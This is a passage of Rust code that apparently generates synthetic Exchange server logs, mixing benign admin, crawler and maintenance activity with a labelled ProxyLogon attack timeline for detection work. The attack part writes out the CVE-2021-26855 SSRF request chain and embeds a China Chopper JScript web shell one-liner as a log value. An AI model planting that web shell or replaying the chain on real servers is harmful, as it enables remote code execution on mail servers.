            format!("{DOMAIN_NB}\\{HEALTH_MAILBOX}"),
        ));
        r.be = Some(be);
        self.emit(&r);
        // ECP probe lands in the ECP server log.
        if (h0 / MS_HOUR) % 2 == 0 {
            let t = h0 + 9 * 60_000 + self.jitter(60_000);
            let c = self.canary();
            self.ecp_line(
                t,
                "Get-InboxRule",
                &format!("/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary={c}"),
            );
        }
        if (h0 / MS_HOUR) % 4 == 1 {
            let t = (h0 + 30 * 60_000) * 1000 + self.jitter(3_000_000);
            self.mgmt(
                t,
                "Get-Mailbox",
                r#"-ResultSize "1""#,
                r"NT AUTHORITY\SYSTEM (MSExchangeHMHost)",
                "Remote-PowerShell",
            );
        }
    }

    fn lb_ping(&mut self, t: i64, q: usize) {
        let stem = if q.is_multiple_of(2) {
            "/owa/healthcheck.htm"
        } else {
            "/ecp/healthcheck.htm"
        };
        let r = Req {
            t,
            method: "GET",
            stem: stem.into(),
            c_ip: LB_IPS[q % 2].into(),
            status: 200,
            total: 1,
            ..Default::default()
        };
        self.emit(&r);
    }

    fn internet_noise(&mut self, t0: i64) {
        // Crawlers GET the OWA logon page (GET, not POST: the benign twin of Volexity's
        // crawler-UA POSTs); Googlebot address from Google's published crawler ranges.
        for _ in 0..self.rng.random_range(1..3) {
            let t = t0 + self.jitter(MS_DAY);
            let r = Req {
                t,
                proto: "Owa",
                method: "GET",
                stem: "/owa/auth/logon.aspx".into(),
                query: "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0".into(),
                auth_type: "FBA",
                anchor: "ServerVersion~Version 15.2 (Build 792.3)".into(),
                ua: UA_GOOGLEBOT.into(),
                c_ip: format!("66.249.66.{}", self.rng.random_range(1..200)),
                url_host: PUBLIC_NAME.into(),
                status: 200,
                total: 4,
                cafe: true,
                ..Default::default()
            };
            self.emit(&r);
        }
        // Internet scanner (shape of the Ecp fixture's zgrab row).
        let t = t0 + self.jitter(MS_DAY);
        let r = Req {
            t,
            proto: "Ecp",
            method: "GET",
            stem: "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"
                .into(),
            auth_type: "FBA",
            anchor: "ServerVersion~Version 15.0 (Build 0.0)".into(),
            ua: UA_ZGRAB.into(),
            c_ip: format!("203.0.113.{}", 200 + self.rng.random_range(0..50)),
            url_host: PUBLIC_NAME.into(),
            status: 200,
            total: 29,
            cafe: true,
            be: Some(Be {
                target: FQDN.into(),
                target_version: TARGET_VERSION.into(),
                routing_type: "IntraForest",
                hint: "EDiscoveryExportTool-ServerVersion".into(),
                fe_auth: BE_VERSION.into(),
                status: 200,
                iis: Some((
                    "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"
                        .into(),
                    String::new(),
                    String::new(),
                )),
                ..Default::default()
            }),
            ..Default::default()
        };
        self.emit(&r);
    }

    fn admin_day(&mut self, t0: i64) {
        let admin = self.admin.clone();
        let mut t = t0 + 9 * MS_HOUR + self.jitter(4 * MS_HOUR);
        let user = format!("{DOMAIN_NB}\\exadmin");
        let ua = UA_BROWSERS[0];
        let ecp = |t: i64, method: &'static str, stem: &str, query: String| Req {
            t,
            proto: "Ecp",
            method,
            stem: stem.into(),
            query,
            auth_type: "FBA",
            user: user.clone(),
            anchor: format!("Sid~{}", admin.sid),
            ua: ua.into(),
            c_ip: admin.ip.clone(),
            url_host: PUBLIC_NAME.into(),
            status: 200,
            total: 40,
            cafe: true,
            ..Default::default()
        };
        let mut r = ecp(t, "GET", "/ecp/", String::new());
        r.be = Some(self.be_user(&admin, "OwaEcpUserContextCookie", "/ecp/", "", 200));
        self.emit(&r);
        let canary = self.canary();
        let target = self.users[self.rng.random_range(0..self.users.len())].clone();
        let calls: [(&str, &str, String); 4] = [
            ("GetList", "Mailboxes", "Get-Mailbox".into()),
            (
                "GetObject",
                "MailboxPropertiesService",
                "Get-Mailbox".into(),
            ),
            ("GetList", "InboxRules", "Get-InboxRule".into()),
            (
                "SetObject",
                "MailboxPropertiesService",
                format!(
                    "'S:CMD=Set-Mailbox.ProhibitSendQuota=''9.5 GB (10,200,547,328 bytes)''.Identity=''{}'''",
                    guid(v4(self.rng.random()))
                ),
            ),
        ];
        let ncalls = 2 + self.rng.random_range(0..3);
        for (op, schema, cmd) in calls.iter().take(ncalls) {
            t += 4_000 + self.jitter(40_000);
            let stem = format!("/ecp/DDI/DDIService.svc/{op}");
            let q = format!("schema={schema}&msExchEcpCanary={canary}");
            let mut r = ecp(t, "POST", &stem, q.clone());
            r.action = op.to_string();
            r.be = Some(self.be_user(&admin, "OwaEcpUserContextCookie", &stem, &q, 200));
            self.emit(&r);
            let url = format!("{stem}?{q}");
            if cmd.starts_with('\'') {
                self.ecp_line_raw(t - 5, cmd, &url);
                self.mgmt(
                    (t - 8) * 1000,
                    "Set-Mailbox",
                    &format!(
                        r#"-Identity "{}" -ProhibitSendQuota "9.5 GB""#,
                        target.display
                    ),
                    "contoso.local/Users/Exchange Admin",
                    "ECP",
                );
            } else {
                self.ecp_line(t - 5, cmd, &url);
                self.mgmt(
                    (t - 8) * 1000,
                    cmd,
                    "",
                    "contoso.local/Users/Exchange Admin",
                    "ECP",
                );
            }
        }
        // Remote PowerShell session from the admin workstation.
        let mut t = t0 + 13 * MS_HOUR + self.jitter(3 * MS_HOUR);
        for (cmd, params) in [
            ("Get-ExchangeServer", String::new()),
            ("Get-Mailbox", r#"-ResultSize "Unlimited""#.to_string()),
            ("Get-MailboxDatabase", r#"-Status "True""#.to_string()),
        ] {
            let mut r = self.user_req(&admin, t, "PowerShell", "POST", "/powershell", "");
            r.query = "serializationLevel=Full;clientApplication=ManagementShell;TargetServer=;ExchClientVer=15.2.792.3".into();
            r.auth_type = "Kerberos";
            r.anchor = "ServerVersion~Version 15.2 (Build 792.3)".to_string();
            r.ua = "Microsoft WinRM Client".into();
            r.action = format!("{cmd}:Command");
            r.url_host = FQDN.to_lowercase();
            let mut be = self.be_user(&admin, "ExchClientVer-ServerCookie", "/powershell", "", 200);
            be.iis = Some(("/PowerShell/".into(), r.query.clone(), user.clone()));
            r.be = Some(be);
            self.emit(&r);
            self.mgmt(
                (t - 20) * 1000,
                cmd,
                &params,
                "contoso.local/Users/Exchange Admin",
                "Remote-PowerShell",
            );
            t += 20_000 + self.jitter(120_000);
        }
    }

    fn ecp_line(&mut self, t: i64, cmd: &str, url: &str) {
        self.ecp_line_raw(t, &format!("S:CMD={cmd}"), url);
    }

    /// `cmd_item` is the whole `S:CMD=...` item (quoted form included).
    fn ecp_line_raw(&mut self, t: i64, cmd_item: &str, url: &str) -> RowKey {
        let data = format!(
            "S:TIME={};S:SID={};{cmd_item};S:REQID=;S:URL={url};S:REFERRER=;S:EX=;S:ACTID={};S:RS=0;S:BLD=15.2.792.3;S:TNAME=<null>;S:TID=;S:USID={};S:EDOID=;S:ACID=",
            5 + self.rng.random_range(0..400),
            guid(v4(self.rng.random())),
            guid(v4(self.rng.random())),
            guid(v4(self.rng.random())),
        );
        let line = format!("{},{HOST},ECP.Request,{}", iso_ms(t), csv_field(&data));
        self.st.row(
            format!("{EX}/Logging/ECP/Server/ECPServer{}-1.LOG", stamp_day(t)),
            ECP_HEADER,
            t,
            line,
        )
    }

    fn oab_line(&mut self, t: i64, level: &str, msg: &str) -> RowKey {
        let line = format!("{},{level},{}", iso_ms(t), csv_field(msg));
        self.st.row(
            format!(
                "{EX}/Logging/OABGeneratorLog/OABGenerator_{}-1.LOG",
                stamp_day(t)
            ),
            OAB_HEADER,
            t,
            line,
        )
    }

    fn oab_day(&mut self, t0: i64, day: i64) {
        for run in 0..3 {
            let t = t0 + (run * 8) * MS_HOUR + 31 * 60_000 + self.jitter(120_000);
            let msgs = [
                format!(
                    "OABGeneratorAssistant: started processing offline address book '\\Default Offline Address Book' ({OAB_GUID})."
                ),
                format!(
                    "Reading address lists for OAB {OAB_GUID}: 1 address list, {} recipients.",
                    46 + self.rng.random_range(0..3)
                ),
                "Generated full and differential OAB files; 2 files written, 0 skipped."
                    .to_string(),
                format!(
                    "OABGeneratorAssistant: finished processing offline address book ({OAB_GUID}) in {} ms.",
                    900 + self.rng.random_range(0..4000)
                ),
            ];
            for (i, m) in msgs.iter().enumerate() {
                self.oab_line(t + i as i64 * 400, "Information", m);
            }
        }
        // The legitimate form of the CVE-2021-26858 message: temp file under ClientAccess\OAB.
        if day % 2 == 1 {
            let t = t0 + 11 * MS_HOUR + self.jitter(4 * MS_HOUR);
            let msg = format!(
                "Download failed and temporary file '{EXW}\\ClientAccess\\OAB\\{OAB_GUID}\\{}.lzx.tmp' needs to be removed",
                guid(v4(self.rng.random()))
            );
            self.oab_line(t, "Warning", &msg);
        }
    }

    // ---------------------------------------------------------------- events

    fn app(&mut self, t_us: i64, provider: &'static str, id: u32, level: u8, msg: &str) -> EvKey {
        let ev = Ev {
            t_us,
            provider,
            provider_guid: None,
            id,
            version: 0,
            level,
            task: 0,
            keywords: "0x80000000000000",
            pid: 0,
            tid: 0,
            user_sid: None,
            data: json!({"Data": [msg]}),
        };
        self.st.event(CH_APP.0, CH_APP.1, CH_APP.2, ev)
    }

    /// MSExchange Management event 1 (provider `MSExchange CmdletLogs`): Data[0] cmdlet,
    /// Data[1] parameters, Data[2] caller (reference §3.10).
    fn mgmt(&mut self, t_us: i64, cmdlet: &str, params: &str, caller: &str, origin: &str) -> EvKey {
        let pid = match origin {
            "ECP" => "6120 w3wp#MSExchangeECPAppPool",
            "Remote-PowerShell" => "4488 w3wp#MSExchangePowerShellAppPool",
            _ => "9412 powershell",
        };
        let ev = Ev {
            t_us,
            provider: "MSExchange CmdletLogs",
            provider_guid: None,
            id: 1,
            version: 0,
            level: 4,
            task: 1,
            keywords: "0x80000000000000",
            pid: 0,
            tid: 0,
            user_sid: None,
            data: json!({"Data": [
                cmdlet, params, caller,
                format!("{DOMAIN_SID}-500"), "S-1-5-18", origin, pid, "",
                format!("00:00:00.{:07}", self.rng.random_range(10_000..9_000_000)),
                "View Entire Forest: 'False', ", "", "", FQDN
            ]}),
        };
        self.st.event(CH_MGMT.0, CH_MGMT.1, CH_MGMT.2, ev)
    }

    fn sysmon(&mut self, t_us: i64, id: u32, data: Map<String, Value>) -> EvKey {
        let ev = Ev {
            t_us,
            provider: "Microsoft-Windows-Sysmon",
            provider_guid: Some(SYSMON_GUID),
            id,
            version: if id == 1 { 5 } else { 2 },
            level: 4,
            task: id as u16,
            keywords: "0x8000000000000000",
            pid: 2644,
            tid: 3812,
            user_sid: Some("S-1-5-18"),
            data: Value::Object(data),
        };
        self.st.event(CH_SYSMON.0, CH_SYSMON.1, CH_SYSMON.2, ev)
    }

    fn fake_hash(image: &str) -> String {
        let a = fnv64(image.as_bytes());
        let b = fnv64(format!("{image}#").as_bytes());
        let c = fnv64(format!("{image}##").as_bytes());
        let d = fnv64(format!("{image}###").as_bytes());
        format!("SHA256={:016X}{:016X}{:016X}{:016X}", a, b, c, d)
    }

    fn proc_create(
        &mut self,
        t_us: i64,
        image: &str,
        cmd: &str,
        cwd: &str,
        parent: &Proc,
        user: &'static str,
    ) -> (EvKey, Proc) {
        let p = Proc {
            guid: format!("{{{}}}", guid(self.rng.random())),
            pid: (250 + self.rng.random_range(0..3000u32)) * 4,
            image: image.into(),
            cmd: cmd.into(),
        };
        let file = image.rsplit('\\').next().unwrap_or(image).to_string();
        let mut m = Map::new();
        m.insert("RuleName".into(), json!("-"));
        m.insert("UtcTime".into(), json!(sysmon_time(t_us)));
        m.insert("ProcessGuid".into(), json!(p.guid));
        m.insert("ProcessId".into(), json!(p.pid));
        m.insert("Image".into(), json!(image));
        m.insert("FileVersion".into(), json!("-"));
        m.insert("Description".into(), json!("-"));
        m.insert("Product".into(), json!("-"));
        m.insert("Company".into(), json!("-"));
        m.insert("OriginalFileName".into(), json!(file));
        m.insert("CommandLine".into(), json!(cmd));
        m.insert("CurrentDirectory".into(), json!(cwd));
        m.insert("User".into(), json!(user));
        m.insert(
            "LogonGuid".into(),
            json!(format!("{{{}}}", guid(self.rng.random()))),
        );
        m.insert(
            "LogonId".into(),
            json!(if user.starts_with("NT AUTHORITY") {
                "0x3e7"
            } else {
                "0x5c1a2f"
            }),
        );
        m.insert(
            "TerminalSessionId".into(),
            json!(if user.starts_with("NT AUTHORITY") {
                0
            } else {
                2
            }),
        );
        m.insert(
            "IntegrityLevel".into(),
            json!(if user.starts_with("NT AUTHORITY") {
                "System"
            } else {
                "High"
            }),
        );
        m.insert("Hashes".into(), json!(Self::fake_hash(image)));
        m.insert("ParentProcessGuid".into(), json!(parent.guid));
        m.insert("ParentProcessId".into(), json!(parent.pid));
        m.insert("ParentImage".into(), json!(parent.image));
        m.insert("ParentCommandLine".into(), json!(parent.cmd));
        let k = self.sysmon(t_us, 1, m);
        (k, p)
    }

    fn file_create(&mut self, t_us: i64, p: &Proc, target: &str) -> EvKey {
        let mut m = Map::new();
        m.insert("RuleName".into(), json!("-"));
        m.insert("UtcTime".into(), json!(sysmon_time(t_us)));
        m.insert("ProcessGuid".into(), json!(p.guid));
        m.insert("ProcessId".into(), json!(p.pid));
        m.insert("Image".into(), json!(p.image));
        m.insert("TargetFilename".into(), json!(target));
        m.insert("CreationUtcTime".into(), json!(sysmon_time(t_us)));
        self.sysmon(t_us, 11, m)
    }

    fn app_events_day(&mut self, t0: i64) {
        for h in (0..24).step_by(2) {
            let t = (t0 + h * MS_HOUR + self.jitter(MS_HOUR)) * 1000;
            let msg = format!(
                "Process MSExchangeHMWorker.exe (PID={}). Exchange Active Directory Provider has discovered the following servers with the following characteristics:\n(Server name | Roles | Enabled | Reachability | Synchronized | GC capable | PDC | SACL right | Critical Data | Netlogon | OS Version)\nIn-site:\nDC01.contoso.local\tCDG 1 7 7 1 0 1 1 7 1\n Out-of-site:\n",
                3000 + self.rng.random_range(0..2000)
            );
            self.app(t, "MSExchange ADAccess", 2080, 4, &msg);
        }
        let t = (t0 + self.jitter(MS_DAY)) * 1000;
        self.app(t, "MSExchange Common", 106, 3, "Performance counter updating error. Counter name is Percentage of Failed Offline Address Book Downloads, category name is MSExchange OAB. Optional code: 3. Exception: The exception thrown is : System.InvalidOperationException: The requested Performance Counter is not a custom counter, it has to be initialized as ReadOnly.");
        let t = (t0 + 5 * MS_HOUR + self.jitter(MS_HOUR)) * 1000;
        self.app(t, "MSExchange Unified Messaging", 1001, 4, "The Microsoft Exchange Unified Messaging worker process completed its scheduled call-data cleanup. 0 items were removed.");
        if self.rng.random_bool(0.5) {
            let t = (t0 + 14 * MS_HOUR + self.jitter(MS_HOUR)) * 1000;
            self.app(t, "MSExchange Unified Messaging", 1024, 3, "The Microsoft Exchange Unified Messaging worker process did not receive a heartbeat from the Unified Messaging service within 60 seconds. The worker process will be recycled.");
        }
        if (t0 / MS_DAY) % 3 == 1 {
            // Near-miss for CVE-2021-26857: a UM error without InvalidCastException.
            let t = (t0 + 3 * MS_HOUR + self.jitter(MS_HOUR)) * 1000;
            self.app(t, "MSExchange Unified Messaging", 1082, 2, "An error occurred while the UM worker process was processing a request: System.TimeoutException: The operation has timed out.\n   at Microsoft.Exchange.UM.UMCore.CallContext.WaitForCompletion(TimeSpan timeout)");
        }
    }

    fn sysmon_day(&mut self, t0: i64, weekend: bool) {
        let services = Proc {
            guid: "{2a5d3c1e-0b7f-603a-0b00-000000000600}".into(),
            pid: 688,
            image: r"C:\Windows\System32\services.exe".into(),
            cmd: r"C:\Windows\system32\services.exe".into(),
        };
        let svchost = Proc {
            guid: "{2a5d3c1e-0b80-603a-1c00-000000000600}".into(),
            pid: 1320,
            image: r"C:\Windows\System32\svchost.exe".into(),
            cmd: r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule".into(),
        };
        let hmhost = Proc {
            guid: "{2a5d3c1e-0c02-603a-6d00-000000000600}".into(),
            pid: 3412,
            image: format!(r"{EXW}\Bin\MSExchangeHMHost.exe"),
            cmd: format!(r#""{EXW}\Bin\MSExchangeHMHost.exe""#),
        };
        // Nightly IIS log cleanup task (scheduled cmd.exe, not under w3wp).
        let t = (t0 + MS_HOUR + self.jitter(60_000)) * 1000;
        let (_, cmd) = self.proc_create(
            t,
            r"C:\Windows\System32\cmd.exe",
            r#"C:\Windows\system32\cmd.exe /c "C:\Scripts\CleanupIISLogs.cmd""#,
            r"C:\Windows\system32\",
            &svchost,
            r"NT AUTHORITY\SYSTEM",
        );
        self.proc_create(
            t + 15_000,
            r"C:\Windows\System32\conhost.exe",
            r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
            r"C:\Windows\system32\",
            &cmd,
            r"NT AUTHORITY\SYSTEM",
        );
        self.proc_create(
            t + 40_000,
            r"C:\Windows\System32\forfiles.exe",
            r#"forfiles  /p "C:\inetpub\logs\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path""#,
            r"C:\Windows\system32\",
            &cmd,
            r"NT AUTHORITY\SYSTEM",
        );
        // App pool recycle: WAS starts w3wp, ASP.NET compiles (w3wp -> csc.exe -> cvtres.exe).
        let t = (t0 + 2 * MS_HOUR + 10 * 60_000 + self.jitter(600_000)) * 1000;
        let pools = [self.w3wp_owa.clone(), self.w3wp_ecp.clone()];
        for (i, w) in pools.iter().enumerate() {
            let t = t + i as i64 * 90_000_000;
            let was = Proc {
                image: r"C:\Windows\System32\svchost.exe".into(),
                cmd: r"C:\Windows\system32\svchost.exe -k iissvcs".into(),
                pid: 2212,
                ..services.clone()
            };
            self.proc_create(
                t,
                &w.image,
                &w.cmd,
                r"C:\Windows\system32\",
                &was,
                r"NT AUTHORITY\SYSTEM",
            );
            let dir = format!(
                r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\{}\{}\{}",
                if i == 0 { "owa" } else { "ecp" },
                hex_n(self.rng.random(), 8),
                hex_n(self.rng.random(), 8)
            );
            let tmp = hex_n(self.rng.random(), 8);
            let (_, csc) = self.proc_create(
                t + 4_000_000,
                r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe",
                &format!(r#""C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /t:library /utf8output /nostdlib+ /R:"C:\Windows\Microsoft.Net\assembly\GAC_MSIL\System\v4.0_4.0.0.0__b77a5c561934e089\System.dll" /out:"{dir}\App_Web_{tmp}.dll" /D:DEBUG /debug+ /optimize- /w:4 /nowarn:1659;1699;1701;612;618 /warnaserror-  "{dir}\App_Web_{tmp}.0.cs""#),
                r"C:\Windows\system32\inetsrv\",
                w,
                r"NT AUTHORITY\SYSTEM",
            );
            self.proc_create(
                t + 4_100_000,
                r"C:\Windows\System32\conhost.exe",
                r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
                r"C:\Windows\system32\inetsrv\",
                &csc,
                r"NT AUTHORITY\SYSTEM",
            );
            let res = hex_n(self.rng.random(), 4).to_uppercase();
            self.proc_create(
                t + 4_600_000,
                r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\cvtres.exe",
                &format!(r#"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\RES{res}.tmp""#),
                r"C:\Windows\system32\inetsrv\",
                &csc,
                r"NT AUTHORITY\SYSTEM",
            );
            self.file_create(t + 4_700_000, w, &format!(r"{dir}\App_Web_{tmp}.dll"));
        }
        // Managed availability worker processes.
        for k in 0..4 {
            let t = (t0 + k * 6 * MS_HOUR + 3 * MS_HOUR + self.jitter(MS_HOUR)) * 1000;
            let pipe = 1000 + self.rng.random_range(0..9000);
            let etl = hex_n(self.rng.random(), 6);
            let (_, w) = self.proc_create(
                t,
                &format!(r"{EXW}\Bin\MSExchangeHMWorker.exe"),
                &format!(r#""{EXW}\Bin\MSExchangeHMWorker.exe" -wp:3412 -pipe:{pipe}"#),
                &format!(r"{EXW}\Bin\"),
                &hmhost,
                r"NT AUTHORITY\SYSTEM",
            );
            self.file_create(t + 2_000_000, &w, &format!(r"{EXW}\Logging\Monitoring\Monitoring\MSExchangeHMWorker\ActiveMonitoringTraceLogs\ActiveMonitoringTraceLogs_{etl}.etl"));
        }
        // The admin opens the Exchange Management Shell on the server (benign snap-in style use).
        if !weekend {
            let explorer = Proc {
                guid: "{2a5d3c1e-9a31-603a-a301-000000000600}".into(),
                pid: 6044,
                image: r"C:\Windows\explorer.exe".into(),
                cmd: r"C:\Windows\Explorer.EXE".into(),
            };
            let t = (t0 + 10 * MS_HOUR + self.jitter(5 * MS_HOUR)) * 1000;
            self.proc_create(
                t,
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                &format!(r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -noexit -command ". '{EXW}\bin\RemoteExchange.ps1'; Connect-ExchangeServer -auto -ClientApplication:ManagementShell ""#),
                r"C:\Users\exadmin\",
                &explorer,
                r"CONTOSO\exadmin",
            );
        }
    }

    // ---------------------------------------------------------------- attack

    /// Step 1 (2021-03-01): the SSRF probe shape of Microsoft's nmap script
    /// (`http-vuln-cve2021-26855.nse`: GET /owa/auth/x.js with X-AnonResource-Backend cookie
    /// to localhost/ecp/default.flt → 500) and a POST /ecp/y.js.
    fn attack_probe(&mut self) {
        let t0 = ts(2021, 3, 1, 17, 42, 8, 311);
        let mut t = t0;
        for (method, proto, stem) in [
            ("GET", "Owa", "/owa/auth/x.js"),
            ("GET", "Owa", "/owa/auth/x.js"),
            ("POST", "Ecp", "/ecp/y.js"),
        ]
        .iter()
        {
            let r = Req {
                t,
                proto,
                method,
                stem: stem.to_string(),
                auth_type: "FBA",
                anchor: "ServerInfo~localhost/ecp/default.flt?".into(),
                ua: UA_PROBE.into(),
                c_ip: IP_PROBE.into(),
                url_host: PUBLIC_NAME.into(),
                status: 500,
                total: 380 + self.rng.random_range(0..60),
                req_bytes: 0,
                resp_bytes: 85,
                gi_extra: "ProxyToDownLevel=True;NewConnection=::1&0;".into(),
                cafe: true,
                be: Some(Be {
                    target: "localhost".into(),
                    target_version: "0.00.0003.000".into(),
                    routing_type: "CrossRegion",
                    hint: "X-AnonResource-Backend-Cookie".into(),
                    fe_auth: "BEVersion-3".into(),
                    status: 500,
                    iis: None,
                    ..Default::default()
                }),
                ..Default::default()
            };
            let e = self.emit(&r);
            self.span(t);
            let title = format!(
                "ProxyLogon SSRF probe {method} {stem} (X-AnonResource-Backend to localhost/ecp/default.flt)"
            );
            let hp = e.hp.expect("hp");
            self.st.mark_row(
                &hp,
                Draft {
                    phase: "probing",
                    title: format!("{title} [HttpProxy]"),
                    t: Some(t),
                    tags: T_PROBE,
                    evidence: "ServerInfo~localhost/ecp/default.flt?".into(),
                },
            );
            self.st.mark_row(
                &e.fe,
                Draft {
                    phase: "probing",
                    title: format!("{title} [IIS]"),
                    t: Some(t),
                    tags: T_PROBE,
                    evidence: format!("{stem} &CorrelationID"),
                },
            );
            t += 2_000 + self.jitter(9_000);
        }
    }

    /// Steps 2–5 (2021-03-02): CVE-2021-26857 attempt, the CVE-2021-26855 SSRF chain,
    /// CVE-2021-27065 OAB virtual directory abuse, CVE-2021-26858 file write.
    fn attack_exploit(&mut self) {
        // CVE-2021-26857: UM deserialization attempt leaves an InvalidCastException error.
        let t57 = ts(2021, 3, 2, 2, 49, 31, 650);
        let msg = "An unhandled exception occurred in a UM worker process request: System.InvalidCastException: Unable to cast object of type 'System.Collections.Generic.SortedSet`1[System.String]' to type 'Microsoft.Exchange.UM.UMCommon.PhoneNumber'.\n   at Microsoft.Exchange.UM.UMCore.PipelineContext.RestoreSerializedState(Stream state)\n   at Microsoft.Exchange.UM.UMCore.VoiceMessagePipelineContext..ctor(SubmissionHelper helper)\n   at Microsoft.Exchange.UM.UMCore.PipelineDispatcher.ProcessNextWorkItem()";
        let k = self.app(
            t57 * 1000 + 118,
            "MSExchange Unified Messaging",
            1148,
            2,
            msg,
        );
        self.span(t57);
        self.st.mark_ev(&k, Draft { phase: "exploitation", title: "CVE-2021-26857: MSExchange Unified Messaging error with System.InvalidCastException".into(), t: Some(t57), tags: T_CVE57, evidence: "System.InvalidCastException".into() });

        let canary = self.canary();
        let param = rand_letters(&mut self.rng, 6, LOWER);
        let shell1 = format!("{}.aspx", rand_letters(&mut self.rng, 8, MIXED));
        let script = format!(
            r#"<script language="JScript" runat="server">function Page_Load(){{eval(Request["{param}"],"unsafe");}}</script>"#
        );
        let be_host = format!("{FQDN}:444");
        let chain: Vec<(String, &str, String, u16, &'static str)> = vec![
            (
                "/autodiscover/autodiscover.xml?#".into(),
                "/autodiscover/autodiscover.xml",
                String::new(),
                200,
                "autodiscover LegacyDN lookup",
            ),
            (
                "/mapi/emsmdb/?#".into(),
                "/mapi/emsmdb/",
                String::new(),
                200,
                "MAPI SID lookup",
            ),
            (
                "/ecp/proxyLogon.ecp?#".into(),
                "/ecp/proxyLogon.ecp",
                String::new(),
                241,
                "ECP session via proxyLogon.ecp",
            ),
            (
                format!(
                    "/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}#"
                ),
                "/ecp/DDI/DDIService.svc/GetObject",
                format!("schema=OABVirtualDirectory&msExchEcpCanary={canary}"),
                200,
                "GetObject OABVirtualDirectory",
            ),
            (
                format!(
                    "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}#"
                ),
                "/ecp/DDI/DDIService.svc/SetObject",
                format!("schema=OABVirtualDirectory&msExchEcpCanary={canary}"),
                200,
                "SetObject OABVirtualDirectory (ExternalUrl script)",
            ),
            (
                format!(
                    "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary={canary}#"
                ),
                "/ecp/DDI/DDIService.svc/SetObject",
                format!("schema=ResetOABVirtualDirectory&msExchEcpCanary={canary}"),
                200,
                "SetObject ResetOABVirtualDirectory (export to aspnet_client)",
            ),
        ];
        let mut t = ts(2021, 3, 2, 2, 57, 14, 402);
        let mut stems = Vec::new();
        for (i, (anchor_path, be_stem, be_query, status, what)) in chain.iter().enumerate() {
            let stem = if i == 0 {
                "/ecp/y.js".to_string()
            } else {
                {
                    let n = 1 + self.rng.random_range(0..3);
                    format!("/ecp/{}.js", rand_letters(&mut self.rng, n, MIXED))
                }
            };
            stems.push(stem.clone());
            let anchor = format!("ServerInfo~{be_host}{anchor_path}");
            let r = Req {
                t,
                proto: "Ecp",
                method: "POST",
                stem: stem.clone(),
                auth_type: "FBA",
                anchor: anchor.clone(),
                ua: UA_SSRF.into(),
                c_ip: IP_SSRF.into(),
                url_host: PUBLIC_NAME.into(),
                status: *status,
                total: 90 + self.rng.random_range(0..700),
                req_bytes: 300 + self.rng.random_range(0..900),
                resp_bytes: 200 + self.rng.random_range(0..3000),
                gi_extra: "NewConnection=10.10.1.20&0;".into(),
                cafe: true,
                be: Some(Be {
                    target: be_host.clone(),
                    target_version: TARGET_VERSION.into(),
                    routing_type: "IntraForest",
                    hint: "X-BEResource-Cookie".into(),
                    fe_auth: BE_VERSION.into(),
                    status: *status,
                    iis: Some((
                        be_stem.to_string(),
                        be_query.clone(),
                        MACHINE_ACCOUNT.into(),
                    )),
                    ..Default::default()
                }),
                ..Default::default()
            };
            let e = self.emit(&r);
            self.span(t);
            let tags = if i >= 4 { T_CVE65 } else { T_CVE55 };
            let tags_hp: &'static [&'static str] = if i >= 4 {
                &["cve.2021-26855", "cve.2021-27065"]
            } else {
                T_CVE55
            };
            self.st.mark_row(
                &e.hp.expect("hp"),
                Draft {
                    phase: "exploitation",
                    title: format!("CVE-2021-26855 SSRF ({what}) [HttpProxy]"),
                    t: Some(t),
                    tags: tags_hp,
                    evidence: anchor.clone(),
                },
            );
            self.st.mark_row(
                &e.fe,
                Draft {
                    phase: "exploitation",
                    title: format!("CVE-2021-26855 SSRF POST {stem} [IIS front end]"),
                    t: Some(t),
                    tags: T_CVE55,
                    evidence: format!("POST {stem} "),
                },
            );
            let be_key = e.be.expect("be");
            let be_ev = if be_query.is_empty() {
                format!("POST {be_stem} - 444 {MACHINE_ACCOUNT}")
            } else {
                format!("POST {be_stem} {be_query} 444 {MACHINE_ACCOUNT}")
            };
            self.st.mark_row(&be_key, Draft { phase: "exploitation", title: format!("SSRF-originated back-end request {be_stem} as machine account [IIS back end]"), t: Some(t - 1), tags: if i >= 4 { tags } else { T_CVE55 }, evidence: be_ev });

            if i == 4 {
                // CVE-2021-27065: ExternalUrl set to the China Chopper script.
                let cmd_item = format!(
                    "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/{script}''.Identity=''{OAB_VDIR_GUID}'''"
                );
                let url = format!(
                    "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}&a=%5D:444{stem}"
                );
                let k = self.ecp_line_raw(t - 40, &cmd_item, &url);
                self.st.mark_row(
                    &k,
                    Draft {
                        phase: "exploitation",
                        title:
                            "CVE-2021-27065: ECP Set-OabVirtualDirectory ExternalUrl with JScript"
                                .into(),
                        t: Some(t - 40),
                        tags: T_CVE65,
                        evidence: "S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script"
                            .into(),
                    },
                );
                let params =
                    format!(r#"-ExternalUrl "http://f/{script}" -Identity "{OAB_VDIR_GUID}""#);
                let k = self.mgmt(
                    (t - 60) * 1000,
                    "Set-OabVirtualDirectory",
                    &params,
                    "contoso.local/Users/Administrator",
                    "ECP",
                );
                self.st.mark_ev(&k, Draft { phase: "exploitation", title: "CVE-2021-27065: MSExchange Management Set-OabVirtualDirectory -ExternalUrl script".into(), t: Some(t - 60), tags: T_CVE65, evidence: "http://f/<script".into() });
            }
            if i == 5 {
                let path =
